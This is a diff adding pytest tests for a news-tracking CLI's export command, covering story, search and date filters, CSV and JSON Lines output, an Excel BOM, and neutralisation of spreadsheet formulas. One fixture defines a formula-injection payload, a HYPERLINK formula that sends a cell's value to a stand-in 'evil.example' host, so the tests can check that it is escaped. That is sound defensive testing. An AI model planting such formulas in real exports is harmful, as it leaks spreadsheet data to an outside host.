@@ -206,3 +206,96 @@ def test_stats_prints_counts(runner: CliRunner, db_path: Path, shared_dir: Path)
     assert counts["articles.status=new"] == "7"
     assert counts["urls.kind=web"] == "7" and counts["urls.kind=amp"] == "2"
     assert counts["urls.kind=cdn_amp"] == "2"
+
+
+# --- Exports for reports: filters, spreadsheets ------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+@pytest.fixture()
+def story_db(db_path: Path) -> Path:
+    """Two stories: 1 (facial recognition, two outlets, one title a formula) and 2 (cookies)."""
+    from tracker.db import open_db
+
+    db = open_db(db_path)
+    db.conn.executemany(
+        "INSERT INTO clusters (id, headline, first_seen, last_seen, n_articles, n_publishers, "
+        "publishers) VALUES (?, ?, ?, ?, ?, ?, ?)",
+        [(1, "Police trial facial recognition", "2024-01-02T08:00:00Z", "2024-02-01T09:00:00Z", 2, 2,
+          json.dumps(["BBC News", "Café Müller"])),
+         (2, "Cookie banners fined", "2023-06-01T00:00:00Z", "2023-06-01T00:00:00Z", 1, 1,
+          json.dumps(["Wired"]))])
+    db.conn.executemany(
+        "INSERT INTO articles (id, url, title, excerpt, text, published, publisher, topics, "
+        "cluster_id, status, first_seen) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, 'fetched', '2024-03-01T00:00:00Z')",
+        [(1, "https://bbc.example/1", "Police trial facial recognition", "Cameras in London",
+          "Live facial recognition cameras", "2024-01-02T08:00:00Z", "BBC News",
+          json.dumps(["Privacy", "Policing"]), 1),
+         (2, "https://cafe.example/2", FORMULA, "-5 is not a formula; @ is", "more facial recognition",
+          "2024-02-01T09:00:00Z", "Café Müller", None, 1),
+         (3, "https://wired.example/3", "Cookie banners fined", "CNIL fines", "consent and cookies",
+          "2023-06-01T00:00:00Z", "Wired", None, 2)])
+    db.conn.close()
+    return db_path
+
+
+def _csv(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
+
+
+def test_export_filters_by_story_search_and_date(runner: CliRunner, story_db: Path) -> None:
+    def ids(*args: str, key: str = "article_id") -> list[str]:
+        result = invoke(runner, story_db, "export", *args)
+        assert result.exit_code == 0, result.output
+        return [row[key] for row in _csv(result.stdout)]
+
+    assert ids("clusters") == ["1", "2", "3"]
+    assert ids("clusters", "--story", "1") == ["1", "2"]
+    assert ids("articles", "--search", "facial recognition", key="id") == ["1", "2"]
+    assert ids("articles", "--search", "recognition facial", key="id") == []  # a phrase
+    assert ids("articles", "--search", "cookies OR London", key="id") == ["1", "3"]
+    assert ids("articles", "--since", "2024-01-15", key="id") == ["2"]
+    assert ids("stories", "--search", "consent", key="id") == ["2"]
+    assert ids("stories", "--since", "2024-01-01", key="id") == ["1"]
+    assert ids("clusters", "--story", "1", "--since", "2024-01-15") == ["2"]
+    bad = invoke(runner, story_db, "export", "articles", "--since", "last tuesday-ish")
+    assert bad.exit_code == 1 and "--since 'last tuesday-ish': not a date" in bad.stderr
+
+
+def test_export_clusters_and_stories_carry_headline_and_excerpt(runner: CliRunner, story_db: Path) -> None:
+    clusters = _csv(invoke(runner, story_db, "export", "clusters", "--story", "1").stdout)
+    assert clusters[0]["story_headline"] == "Police trial facial recognition"
+    assert clusters[0]["excerpt"] == "Cameras in London"
+    stories = _csv(invoke(runner, story_db, "export", "stories").stdout)
+    assert [s["excerpt"] for s in stories] == ["CNIL fines", "Cameras in London"]
+
+
+def test_export_lists_as_text_in_csv_and_json_in_jsonl(runner: CliRunner, story_db: Path) -> None:
+    stories = _csv(invoke(runner, story_db, "export", "stories", "--story", "1").stdout)
+    assert stories[0]["publishers"] == "BBC News; Café Müller"
+    articles = _csv(invoke(runner, story_db, "export", "articles", "--story", "1").stdout)
+    assert articles[0]["topics"] == "Privacy; Policing"
+    lines = invoke(runner, story_db, "export", "stories", "--story", "1", "--format", "jsonl").stdout
+    assert json.loads(lines)["publishers"] == ["BBC News", "Café Müller"]
+
+
+def test_export_csv_neutralises_formulas_unless_raw(runner: CliRunner, story_db: Path) -> None:
+    safe = {r["id"]: r for r in _csv(invoke(runner, story_db, "export", "articles").stdout)}
+    assert safe["2"]["title"] == "'" + FORMULA
+    assert safe["2"]["excerpt"] == "'-5 is not a formula; @ is"  # a cell, not a number
+    assert safe["1"]["title"] == "Police trial facial recognition"
+    raw = {r["id"]: r for r in _csv(invoke(runner, story_db, "export", "articles", "--raw").stdout)}
+    assert raw["2"]["title"] == FORMULA
+    jsonl = invoke(runner, story_db, "export", "articles", "--format", "jsonl").stdout
+    assert json.loads(jsonl.splitlines()[1])["title"] == FORMULA  # JSON Lines stay as stored
+
+
+def test_export_for_excel_starts_with_a_bom(runner: CliRunner, story_db: Path, tmp_path: Path) -> None:
+    out = tmp_path / "stories.csv"
+    assert invoke(runner, story_db, "export", "stories", "--excel", "-o", str(out)).exit_code == 0
+    data = out.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbfid,headline,")
+    assert "Café Müller" in data.decode("utf-8")
+    plain = invoke(runner, story_db, "export", "stories").stdout
+    assert plain.startswith("id,headline,")
